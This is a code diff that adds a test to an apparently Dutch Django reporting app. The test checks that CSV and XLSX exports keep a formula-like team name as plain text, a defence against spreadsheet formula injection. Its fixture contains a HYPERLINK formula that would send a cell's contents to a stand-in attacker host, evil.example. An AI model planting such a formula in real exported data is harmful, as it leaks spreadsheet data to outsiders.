@@ -253,3 +253,15 @@ def test_replica_setting_adds_a_database(monkeypatch):
     finally:
         monkeypatch.delenv("CRIS_RAPPORTAGE_DATABASE_URL")
         importlib.reload(instellingen)
+
+
+def test_issue21_4_a_team_name_that_looks_like_a_formula_stays_text_in_csv_and_xlsx(client, leider, productie_data):
+    productie_data.naam = '=HYPERLINK("https://evil.example/?"&A1,"klik")'
+    productie_data.save(update_fields=["naam"])
+    client.force_login(leider)
+    tekst = client.get(reverse("rapportage:export", args=["csv"]), {"van": "2025-06"}).content.decode("utf-8-sig")
+    assert tekst.split("\r\n")[1].split(";")[6].startswith("\"'=HYPERLINK(")
+    xlsx = client.get(reverse("rapportage:export", args=["xlsx"]), {"van": "2025-06"})
+    blad = load_workbook(io.BytesIO(xlsx.content)).active
+    cel = blad.cell(row=2, column=7)
+    assert cel.data_type == "s" and cel.value.startswith("'=HYPERLINK(")  # text, not a formula
